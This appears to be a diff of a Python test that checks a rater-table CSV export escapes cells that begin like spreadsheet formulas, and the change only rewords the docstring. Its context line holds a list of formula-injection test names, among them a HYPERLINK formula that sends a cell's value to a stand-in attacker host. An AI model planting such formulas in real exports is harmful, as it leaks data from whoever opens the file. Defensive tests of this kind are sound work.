@@ -243,7 +243,7 @@ FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(A1)", 
 
 
 def test_rater_csv_escapes_cells_a_spreadsheet_would_run(client):
-    """Issue #25: cells of the rater-table CSV that begin with = reached spreadsheets
+    """Cells of the rater-table CSV that begin with = reached spreadsheets
     unescaped. A rater's name is theirs to choose (crowd ids, old accounts): every cell
     that begins like a formula is written with a leading ' (defusedcsv)."""
     batch = SamplingBatchFactory(split=SplitFactory(dataset=DatasetFactory(name="coco")))
